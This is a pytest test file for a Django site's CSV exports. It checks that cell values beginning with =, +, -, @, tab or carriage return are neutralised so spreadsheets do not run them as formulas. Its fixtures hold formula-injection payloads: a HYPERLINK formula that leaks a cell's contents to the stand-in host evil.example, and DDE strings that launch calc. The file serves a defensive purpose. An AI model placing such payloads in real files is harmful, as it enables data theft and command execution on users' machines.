"""Formula injection: no CSV the site writes lets a spreadsheet run a cell as a formula."""


import pytest
from django.urls import reverse

from ptce_site.exports import spreadsheet_safe
from tests.admin_helpers import read_csv
from tests.factories import MembershipFactory, OrganisationFactory, PoleFactory

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1;"Cliquez")'
CMD = "+cmd|' /C calc'!A0"
SUM = "@SUM(1+1)*cmd|' /C calc'!A0"


def runs_as_formula(cell: str) -> bool:
    """What a spreadsheet would evaluate: a cell starting like a formula, other than a number
    (a negative latitude is a number, not a formula; the admin's « ; » files write "-21,1")."""
    try:
        float(cell.replace(",", "."))
    except ValueError:
        return cell.startswith(("=", "+", "-", "@", "\t", "\r"))
    return False


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        (HYPERLINK, "'" + HYPERLINK),
        ("-1+1", "'-1+1"),
        ("\tcalc", "'\tcalc"),
        ("\r=1", "'\r=1"),
        ("+33 1 23 45 67 89", "'+33 1 23 45 67 89"),
        ("Pays d'Ancenis", "Pays d'Ancenis"),
        ("", ""),
        (-21.1, -21.1),
        (2014, 2014),
    ],
)
def test_spreadsheet_safe_neutralises_text_only(value, expected):
    assert spreadsheet_safe(value) == expected


@pytest.fixture
def hostile_pole():
    pole = PoleFactory(
        name="-1+1",
        territory=HYPERLINK,
        commune_name=CMD,
        contact_phone="+33 1 23 45 67 89",
        latitude=-21.1,
        longitude=55.5,
    )
    MembershipFactory(pole=pole, organisation=OrganisationFactory(name=SUM))
    return pole


@pytest.mark.parametrize("sep", [";", ","])
def test_the_public_export_writes_no_formula(client, hostile_pole, sep):
    response = client.get(reverse("poles:pole-export-csv"), {"sep": sep})
    header, row = read_csv(response, delimiter=sep)
    assert [cell for cell in row if runs_as_formula(cell)] == []
    cells = dict(zip(header, row, strict=True))
    assert cells["territoire"] == "'" + HYPERLINK
    assert cells["commune"] == "'" + CMD
    assert cells["nom"] == "'-1+1"
    assert cells["téléphone"] == "'+33 1 23 45 67 89"  # readable
    assert cells["latitude"] == "-21.1"  # a number stays a number


def test_the_admin_exports_write_no_formula(curator_client, hostile_pole):
    organisation = hostile_pole.memberships.get().organisation
    for url, pk in [
        (reverse("admin:poles_pole_changelist"), hostile_pole.pk),
        (reverse("admin:members_organisation_changelist"), organisation.pk),
    ]:
        response = curator_client.post(url, {"action": "export_csv", "_selected_action": [pk]})
        rows = read_csv(response)
        assert len(rows) == 2
        assert [cell for cell in rows[1] if runs_as_formula(cell)] == []
    assert rows[1][0] == "'" + SUM


@pytest.mark.parametrize("sep", [";", ","])
def test_a_value_holding_another_separator_is_quoted_whole(client, sep):
    """Every text cell is quoted, so that a spreadsheet splitting on a tab or the other
    separator keeps it whole (checked once in LibreOffice 7.4: no cell became a formula with
    ';', ',', tab or all three as separators); numbers are written bare."""
    PoleFactory(
        territory="Bray\t=2+2\tfin", website="https://example.org/a,=5+5,b",
        commune_name="Bray;=3+3;fin", latitude=-21.1, longitude=55.5,
    )
    raw = client.get(reverse("poles:pole-export-csv"), {"sep": sep}).content.decode("utf-8-sig")
    header, row = raw.splitlines()
    assert header.startswith('"nom"')
    for value in ["Bray\t=2+2\tfin", "https://example.org/a,=5+5,b", "Bray;=3+3;fin"]:
        assert f'{sep}"{value}"{sep}' in row
    assert f"{sep}-21.1{sep}55.5{sep}" in row
